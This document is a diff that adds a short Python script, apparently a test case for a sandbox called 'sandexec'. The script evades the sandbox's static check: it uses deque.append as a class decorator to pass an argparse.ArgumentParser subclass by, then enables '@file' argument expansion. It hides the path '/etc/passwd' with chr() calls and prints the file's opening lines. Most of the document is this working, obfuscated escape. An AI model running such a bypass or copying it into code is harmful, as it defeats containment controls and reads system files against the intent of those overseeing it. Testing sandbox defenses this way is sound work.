@@ -1,0 +1,20 @@
+# source: sandexec README, "The static check", (a class decorator of the script is refused, as it is given the class; a class of the script as a value is refused); Python decorator semantics (PEP 614 lets any expression be a decorator); Lib/argparse.py ArgumentParser.__init__ 8th positional = fromfile_prefix_chars, _read_args_from_files
+# family: class machinery: collections.deque.append as a class decorator hands the class object back
+# goal: reads /etc/passwd through argparse @file expansion, with the ArgumentParser subclass called with 8 positional arguments where the check does not know it
+import argparse, collections
+
+q = collections.deque()
+
+
+@q.append
+class P(argparse.ArgumentParser):
+    pass
+
+
+K = q.pop()
+print("class:", K)
+at = chr(64)
+p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
+p.add_argument("rest", nargs="*")
+path = at + chr(47) + "etc" + chr(47) + "passwd"
+print(p.parse_args([path]).rest[:5])
